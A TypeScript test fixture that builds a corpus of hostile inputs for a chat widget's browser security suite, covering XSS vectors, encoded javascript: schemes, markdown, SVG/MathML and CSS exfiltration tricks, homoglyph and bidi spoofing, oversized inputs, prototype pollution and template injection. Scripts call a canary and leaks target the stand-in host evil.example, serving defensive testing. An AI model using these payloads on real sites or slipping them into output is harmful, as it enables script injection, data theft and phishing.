/**
 * The hostile corpus (issue 10): inputs of our own making, grouped by technique, that a hostile or
 * manipulated answer could carry. Pure data, loaded by the browser suite (which streams every input
 * through every untrusted channel) and by the Node server that plays them (`corpus-server.ts`).
 *
 * Every script in here calls `__wacPwn()` or `alert()`, which the tests turn into a canary flag;
 * every foreign URL points at `evil.example`, a reserved name that never resolves, so an input
 * that made the browser fetch something is caught without anything leaving the machine.
 */

/** The techniques, in the order SECURITY.md lists them. */
export const TECHNIQUES = [
  'raw-html',
  'url-scheme',
  'markdown-trick',
  'svg-mathml',
  'css',
  'bidi-zero-width',
  'homoglyph',
  'oversized',
  'prototype-pollution',
  'template-injection',
] as const;
export type Technique = (typeof TECHNIQUES)[number];

/** One hostile input. */
export interface HostileInput {
  /** Its position in {@link CORPUS}, which the corpus server plays it by. */
  readonly id: number;
  readonly technique: Technique;
  /** The text delivered through every text channel. */
  readonly text: string;
  /**
   * JSON members (`"__proto__": {...}`) written first into every JSON object the server sends for
   * this input, as a hostile upstream would: `JSON.parse` makes them own properties.
   */
  readonly pollute?: string;
}

/** The canary a payload's script would call. */
const J = '__wacPwn()';
/** The host every exfiltration attempt aims at. */
export const EVIL_HOST = 'evil.example';
const EVIL = `https://${EVIL_HOST}`;

const rawHtml: string[] = [
  `<img src=x onerror=${J}>`,
  `<img src="x" onerror="${J}">`,
  `<IMG SRC=x OnErRoR=${J}>`,
  `<img/src/onerror=${J}>`,
  `<img src=x onerror=${J}`,
  `<img src=x\nonerror=${J}>`,
  `<img src=x onerror\u0000=${J}>`,
  `<img src=x onerror=&#95;&#95;wacPwn()>`,
  `<img src=x onerror="eval(atob('X193YWNQd24oKQ=='))">`,
  `<img src="${EVIL}/leak.png">`,
  `<svg onload=${J}>`,
  `<svg/onload=${J}>`,
  `<body onload=${J}>`,
  `<script>${J}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<script src="${EVIL}/x.js"></script>`,
  `<scr<script>ipt>${J}</scr</script>ipt>`,
  `<script>alert(1)</script>`,
  `<iframe src="javascript:${J}"></iframe>`,
  `<iframe srcdoc="<script>parent.${J}</script>"></iframe>`,
  `<iframe src="${EVIL}/"></iframe>`,
  `<details open ontoggle=${J}>x</details>`,
  `<input autofocus onfocus=${J}>`,
  `<select autofocus onfocus=${J}></select>`,
  `<textarea autofocus onfocus=${J}></textarea>`,
  `<video><source onerror=${J}></video>`,
  `<audio src=x onerror=${J}>`,
  `<marquee onstart=${J}>x</marquee>`,
  `<object data="javascript:${J}"></object>`,
  `<embed src="javascript:${J}">`,
  `<form action="javascript:${J}"><button>go</button></form>`,
  `<button formaction="javascript:${J}">x</button>`,
  `<meta http-equiv="refresh" content="0;url=javascript:${J}">`,
  `<base href="${EVIL}/">`,
  `<link rel="stylesheet" href="${EVIL}/x.css">`,
  `<div onpointerenter=${J}>hover me</div>`,
  `<a href="javascript:${J}">click</a>`,
  `<a onclick="${J}">click</a>`,
  `<p style="animation-name:x" onanimationstart=${J}>x</p>`,
  `<template><img src=x onerror=${J}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${J}>"></noscript>`,
  `<xmp><img src=x onerror=${J}></xmp>`,
  `<!--<img src="--><img src=x onerror=${J}//">`,
  `<frameset onload=${J}>`,
  `<table background="javascript:${J}"><tr><td>x</td></tr></table>`,
  `<x contenteditable autofocus onfocus=${J}>x</x>`,
  `<wealth-agent-chat proxy-url="${EVIL}/steal"></wealth-agent-chat>`,
  `<slot name=header onslotchange=${J}></slot>`,
  `<portal src=${EVIL}/></portal>`,
  `</p></div></div><img src=x onerror=${J}>`,
];

/** The same few vectors inside the block contexts an answer commonly has. */
const inContexts = (vectors: readonly string[]): string[] =>
  vectors.flatMap((vector) => [
    `- item ${vector}`,
    `> quoted ${vector}`,
    `| a | b |\n| --- | --- |\n| ${vector} | x |`,
    `**bold ${vector}**`,
    `1. first\n   ${vector}`,
  ]);

const SCHEMES = {
  javascript: `javascript:${J}`,
  data: `data:text/html,<script>${J}</script>`,
  vbscript: 'vbscript:msgbox(1)',
} as const;

/** A scheme written in every casing and encoding a browser, a URL parser or markdown might undo. */
const encodings = (url: string): string[] => {
  const colon = url.indexOf(':');
  const scheme = url.slice(0, colon);
  const rest = url.slice(colon);
  const first = scheme.charCodeAt(0);
  return [
    url,
    scheme.toUpperCase() + rest,
    Array.from(scheme, (c, i) => (i % 2 ? c.toUpperCase() : c)).join('') + rest,
    ` ${url}`,
    `\u0001${url}`,
    `${scheme.slice(0, 4)}\t${scheme.slice(4)}${rest}`,
    `${scheme.slice(0, 4)}&#x09;${scheme.slice(4)}${rest}`,
    `&#${first};${scheme.slice(1)}${rest}`,
    `&#x${first.toString(16)};${scheme.slice(1)}${rest}`,
    `&#0000${first};${scheme.slice(1)}${rest}`,
    `${scheme}&colon;${rest.slice(1)}`,
    `${encodeURIComponent(scheme[0] ?? '')}${scheme.slice(1)}${rest}`.replace(
      /^[a-z]/,
      (c) => `%${c.charCodeAt(0).toString(16)}`,
    ),
    `${scheme}\\:${rest.slice(1)}`,
    `${scheme.slice(0, 2)}\u200b${scheme.slice(2)}${rest}`,
    Array.from(scheme, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0)).join('') + rest,
  ];
};

const urlForms = (url: string): string[] => [
  `[click here](${url})`,
  `<${url}>`,
  `[click here][r]\n\n[r]: ${url}`,
  `[click here](<${url}>)`,
  `![chart](${url})`,
];

const urlScheme: string[] = Object.values(SCHEMES).flatMap((url) =>
  encodings(url).flatMap((encoded, index) =>
    // All five forms for the plain spelling, three for each encoding: enough, and fast.
    urlForms(encoded).slice(0, index === 0 ? 5 : 3),
  ),
);

const markdownTricks: string[] = [
  `![x](${EVIL}/leak?conversation=secret)`,
  `![x](${EVIL}/leak.png "title")`,
  `![x][img]\n\n[img]: ${EVIL}/ref.png`,
  `![](//${EVIL}/protocol-relative.png)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9X193YWNQd24oKT48L3N2Zz4=)`,
  `![x](data:image/png;base64,iVBORw0KGgo=)`,
  `![x](blob:${EVIL}/1234)`,
  `![x](file:///etc/passwd)`,
  `[![x](${EVIL}/nested.png)](javascript:${J})`,
  `[a [b](javascript:${J}) c](${EVIL}/)`,
  `[x](${EVIL}/ "title\\" onmouseover=\\"${J}")`,
  `[x](${EVIL}/ 'a" onmouseover="${J}')`,
  `[x](${EVIL}/"onmouseover="${J})`,
  `[x](${EVIL}/><img src=x onerror=${J}>)`,
  `[x](javascript:${J} "t")`,
  `[x](  javascript:${J}  )`,
  `[x](\\\\${EVIL}\\share)`,
  `[x](/relative/path)`,
  `[x](?query=1)`,
  `[x](#fragment)`,
  `[x](//${EVIL})`,
  `www.${EVIL}/autolinked`,
  `Visit ${EVIL}/path or ${EVIL}.`,
  `[x]: javascript:${J}\n\n[x]`,
  `[1]: javascript:${J}\n\nAs said [1].`,
  `[1][1]\n\n[1]: data:text/html,<script>${J}</script>`,
  `[^1]\n\n[^1]: <img src=x onerror=${J}>`,
  `\`<img src=x onerror=${J}>\``,
  `\`\`\`html\n<script>${J}</script>\n\`\`\``,
  `\`\`\`js" onmouseover="${J}\nx\n\`\`\``,
  `\`\`\`<img src=x onerror=${J}>\nx\n\`\`\``,
  `    <script>${J}</script>`,
  `Setext <img src=x onerror=${J}>\n===`,
  `- [x] <img src=x onerror=${J}>`,
  `<mailto:a@${EVIL}?body=<script>${J}</script>>`,
  `[mail](mailto:x@${EVIL}?subject=%3Cscript%3E)`,
  `[x](https://user:pass@${EVIL}/)`,
  `[x](http://[::1]:80/)`,
  `[x](https://${EVIL}:99999/)`,
  `![${'a'.repeat(500)}](${EVIL}/long-alt.png)`,
];

const svgMathml: string[] = [
  `<svg><script>${J}</script></svg>`,
  `<svg><script href="${EVIL}/x.js"/></svg>`,
  `<svg><a xlink:href="javascript:${J}"><text x="0" y="20">x</text></a></svg>`,
  `<svg><a href="javascript:${J}"><circle r="40"/></a></svg>`,
  `<svg><animate onbegin=${J} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${J}></svg>`,
  `<svg><animate attributeName=href values=javascript:${J} /></svg>`,
  `<svg><foreignObject><img src=x onerror=${J}></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x'><image href='x' onerror='${J}'/></svg>#x"/></svg>`,
  `<svg><image href="${EVIL}/x.png"/></svg>`,
  `<svg><style>@import '${EVIL}/x.css';</style></svg>`,
  `<svg><title><![CDATA[</title><img src=x onerror=${J}>]]></title></svg>`,
  `<svg><desc><![CDATA[</desc><script>${J}</script>]]></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${J}"/>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${J}>`,
  `<math><mi xlink:href="javascript:${J}">x</mi></math>`,
  `<math href="javascript:${J}"><mi>x</mi></math>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${J}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${J}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=${J}>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${J}>">`,
  `<svg><feImage href="${EVIL}/f.png"/></svg>`,
  `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${J}</handler></svg>`,
  `![svg](data:image/svg+xml,<svg onload="${J}"/>)`,
  `$$<math><img src=x onerror=${J}></math>$$`,
];

const css: string[] = [
  `<style>*{background:url(${EVIL}/css-leak)}</style>`,
  `<style>@import url(${EVIL}/x.css);</style>`,
  `<style>@font-face{font-family:x;src:url(${EVIL}/f.woff)}</style>`,
  `<style>input[value^=a]{background:url(${EVIL}/a)}</style>`,
  `<style>:host{display:none!important}</style>`,
  `<style>body{behavior:url(${EVIL}/x.htc)}</style>`,
  `<div style="background:url(${EVIL}/inline)">x</div>`,
  `<div style="background-image:url(javascript:${J})">x</div>`,
  `<div style="width:expression(${J})">x</div>`,
  `<div style="position:fixed;inset:0;z-index:2147483647">overlay</div>`,
  `<span style="-moz-binding:url(${EVIL}/x.xml#x)">x</span>`,
  `<p class="visually-hidden">hidden trap</p>`,
  `<p part="input">fake input</p>`,
  `<link rel=stylesheet href=${EVIL}/x.css>`,
  `\`\`\`css" style="background:url(${EVIL}/fence)\nx\n\`\`\``,
  `\`\`\`x-1 onmouseover=${J}\ncode\n\`\`\``,
  `[x](${EVIL}/ "a" style="background:url(${EVIL}/t)")`,
  `{: style="background:url(${EVIL}/kramdown)"}`,
  `<svg><style>*{fill:url(${EVIL}/svg-css)}</style></svg>`,
  `<style>@namespace url(${EVIL}/ns);</style>`,
  `<style>\\40 import "${EVIL}/escaped.css";</style>`,
  `<style>a{background:u\\rl(${EVIL}/esc)}</style>`,
  `<div style="--wac-accent:url(${EVIL}/var)">x</div>`,
  `<font face="x" style="font-family:x;src:url(${EVIL}/font)">x</font>`,
  `<table style="background:url(${EVIL}/table)"><tr><td>x</td></tr></table>`,
];

const BIDI = ['\u202e', '\u202d', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];
const ZERO_WIDTH = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad'];

const bidi: string[] = [
  ...BIDI.map((mark) => `[${mark}https://bank.example\u202c](${EVIL}/bidi)`),
  ...BIDI.map((mark) => `[safe](${EVIL}/${mark}moc.knab)`),
  ...ZERO_WIDTH.map((mark) => `[https://bank.example](https://bank${mark}.example.${EVIL}/)`),
  ...ZERO_WIDTH.map((mark) => `[x](java${mark}script:${J})`),
  `[\u202egnp.exe](${EVIL}/file.exe)`,
  `invoice\u202efdp.exe`,
  `<${EVIL}/\u202e/path>`,
  `\u2067[x](javascript:${J})\u2069`,
];

const homoglyph: string[] = [
  `[https://bank.example](https://b\u0430nk.example/)`,
  `[https://bank.example](https://bank.ex\u0430mple/)`,
  `[paypal](https://p\u0430yp\u0430l.example/)`,
  `[https://bank.example](https://xn--bnk-7cd.example/)`,
  `[https://bank.example](https://bank.example@${EVIL}/)`,
  `[https://bank.example](https://bank.example.${EVIL}/)`,
  `[https://bank.example](https://${EVIL}#@bank.example)`,
  `[https://bank.example](https://${EVIL}\\@bank.example)`,
  `[https://bank.example](https://bank%2eexample.${EVIL}/)`,
  `[https://bank.example](https://b\u03bfnk.example/)`,
  `[https://bank.example](https://ba\u0578k.example/)`,
  `[https://bank.example](https://bank\u3002example/)`,
  `[https://bank.example](https://bank\uff0eexample/)`,
  `[https://bank.example](https://\uff42ank.example/)`,
  `[https://bank.example](https://bank.example\u2215${EVIL}/)`,
  `[https://bank.example](https://bank.example\u2044login.${EVIL}/)`,
  `[https://bank.example](https://0x7f.0.0.1/)`,
  `[https://bank.example](https://2130706433/)`,
  `[https://bank.example](https://[::ffff:7f00:1]/)`,
  `[https://bank.example](https://bank.example\u0338.${EVIL}/)`,
  `https://b\u0430nk.example/login`,
  `<https://b\u0430nk.example/>`,
  `[\u0431\u0430\u043d\u043a](https://xn--80aa0cbo.example/)`,
  `[Source](https://bank.example:443@${EVIL}:443/)`,
  `[\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:${J})`,
];

const oversized: string[] = [
  'A'.repeat(10_000),
  'word '.repeat(20_000),
  '>'.repeat(5_000) + ' deep',
  `${'> '.repeat(2_000)}deep quote`,
  Array.from({length: 150}, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
  '*'.repeat(10_000),
  '_a'.repeat(5_000),
  '['.repeat(10_000),
  '[x]('.repeat(3_000),
  '`'.repeat(10_000),
  '<'.repeat(10_000),
  '&#x41;'.repeat(10_000),
  `| ${Array.from({length: 1_000}, (_, i) => `c${i}`).join(' | ')} |\n| ${'--- | '.repeat(1_000)}`,
  `${'| a | b |\n'.repeat(2)}|---|---|\n${'| x | y |\n'.repeat(3_000)}`,
  '# heading\n'.repeat(3_000),
  `[1]`.repeat(10_000),
  '**a '.repeat(3_000),
  '\n'.repeat(50_000) + 'end',
  '\u0301'.repeat(20_000),
  '\ud83d\ude00'.repeat(20_000),
];

const POLLUTERS = [
  '"__proto__":{"wacPolluted":true}',
  '"constructor":{"prototype":{"wacPolluted":true}}',
  '"__proto__":{"__proto__":{"wacPolluted":true}}',
  '"__proto__":{"toString":"x","valueOf":"x"}',
  '"toString":"x","valueOf":1,"hasOwnProperty":"x"',
  '"then":"x","constructor":"x"',
  '"length":1e309,"__proto__":[1,2,3]',
  '"prototype":{"wacPolluted":true},"__defineGetter__":"x"',
  '"__proto__":null',
  '"isPrototypeOf":"x","propertyIsEnumerable":"x","toJSON":"x"',
  '"__lookupGetter__":"x","__proto__":{"polluted":"yes","wacPolluted":true}',
  '"constructor":{"name":"x","prototype":null}',
  '"__proto__":"string"',
  '"Symbol.iterator":"x","__proto__":{"length":3}',
  '"__proto__":{"type":"error","error":{"message":"injected"}}',
];

const templateInjection: string[] = [
  `<?lit$1234$>`,
  `<!--?lit$1234$-->x<!--/lit-part-->`,
  `lit$1234$`,
  `\${${J}}`,
  `{{constructor.constructor('${J}')()}}`,
  `{{7*7}}[[7*7]]`,
  `<%= ${J} %>`,
  `#{${J}}`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${J}//'>`,
  `"><img src=x onerror=${J}>`,
  `'><img src=x onerror=${J}>`,
  `</textarea><img src=x onerror=${J}>`,
  `</option></select><img src=x onerror=${J}>`,
  `</label><img src=x onerror=${J}>`,
  `</summary></details><img src=x onerror=${J}>`,
  `data: {"type":"done"}\n\nevent: error\ndata: {"error":"x"}`,
  `\r\n\r\nevent: done\r\ndata: {}\r\n\r\n`,
  `\u0000\u0001\u0008\u000b\u000c\u001b[31mred\u007f`,
  `&lt;script&gt;${J}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${J}&amp;gt;`,
];

const groups: ReadonlyArray<readonly [Technique, readonly string[]]> = [
  ['raw-html', [...rawHtml, ...inContexts(rawHtml.slice(0, 8))]],
  ['url-scheme', urlScheme],
  ['markdown-trick', markdownTricks],
  ['svg-mathml', svgMathml],
  ['css', css],
  ['bidi-zero-width', bidi],
  ['homoglyph', homoglyph],
  ['oversized', oversized],
  ['template-injection', templateInjection],
];

const build = (): HostileInput[] => {
  const inputs: HostileInput[] = [];
  const seen = new Set<string>();
  for (const [technique, texts] of groups) {
    for (const text of texts) {
      if (seen.has(text)) continue;
      seen.add(text);
      inputs.push({id: inputs.length, technique, text});
    }
  }
  for (const pollute of POLLUTERS) {
    inputs.push({
      id: inputs.length,
      technique: 'prototype-pollution',
      text: `__proto__ constructor prototype <img src=x onerror=${J}>`,
      pollute,
    });
  }
  return inputs;
};

/** Every hostile input, numbered from 0. */
export const CORPUS: readonly HostileInput[] = build();

/** How many inputs each technique holds. */
export const countByTechnique = (): Record<Technique, number> => {
  const counts = Object.fromEntries(TECHNIQUES.map((t) => [t, 0])) as Record<Technique, number>;
  for (const input of CORPUS) counts[input.technique] += 1;
  return counts;
};
